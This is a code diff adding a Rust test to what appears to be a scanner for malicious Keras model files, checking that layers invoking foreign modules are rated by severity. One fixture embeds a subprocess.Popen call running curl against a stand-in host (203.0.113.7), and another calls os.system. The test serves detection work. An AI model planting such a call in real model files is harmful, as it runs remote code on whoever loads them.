@@ -37,6 +37,35 @@ fn a_module_of_the_standard_library_is_named() {
 }
 
 #[test]
+fn what_a_node_hands_to_a_function_is_part_of_the_verdict() {
+    let layer = |module: &str, name: &str, given: serde_json::Value| {
+        json!({"module": module, "class_name": "function", "config": name,
+            "inbound_nodes": [{"args": given, "kwargs": {"bufsize": -1}}]})
+    };
+    let outcome =
+        scan(&model(&layer("subprocess", "Popen", json!([["curl", "http://203.0.113.7/x"]]))).to_string());
+    let worst = &outcome.findings[0];
+    assert_eq!((worst.rule.id, worst.severity), ("model/keras-foreign-module", Severity::Critical));
+    assert!(
+        worst.message.contains("runs `curl`") && worst.message.contains("203.0.113.7"),
+        "{}",
+        worst.message
+    );
+    let harmless = layer("os", "system", json!(["true"]));
+    assert_eq!(worst_of(&harmless), Some(Severity::Critical));
+    let package = json!({"module": "my_package.io", "class_name": "fetch", "registered_name": "my_package>fetch",
+        "config": {"source": "http://203.0.113.7/x"}});
+    assert_eq!(worst_of(&package), Some(Severity::High));
+    let layer = json!({"module": "my_package.io", "class_name": "Blend", "registered_name": "my_package>Blend",
+        "config": {"source": "left"}});
+    assert_eq!(worst_of(&layer), Some(Severity::Medium));
+}
+
+fn worst_of(layer: &serde_json::Value) -> Option<Severity> {
+    worst(&model(layer)).map(|(_, severity)| severity)
+}
+
+#[test]
 fn a_registered_class_of_a_package_is_only_remarked() {
     let layer = json!({"module": "my_package.layers", "class_name": "Blend", "config": {},
         "registered_name": "my_package>Blend"});
